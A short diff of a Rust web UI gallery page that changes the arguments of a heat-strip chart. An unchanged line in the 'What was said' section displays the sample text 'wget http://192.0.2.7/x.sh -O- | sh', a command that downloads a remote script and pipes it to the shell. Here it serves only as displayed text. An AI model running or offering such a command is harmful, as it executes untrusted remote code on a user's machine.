@@ -86,7 +86,7 @@ pub(crate) fn GalleryPage() -> impl IntoView {
         <Piece title="Charts">
             <Histogram series=series(60, 1) what="events" />
             <Histogram series=Signal::stored(Series::default()) what="events" />
-            <HeatStrip series=series(144, 10) href=Callback::new(|_| "/gallery".to_owned()) />
+            <HeatStrip series=series(1_440, 1) href=Callback::new(|_| "/gallery".to_owned()) />
         </Piece>
         <Piece title="What was said">
             <p><Said text="wget http://192.0.2.7/x.sh -O- | sh" /></p>
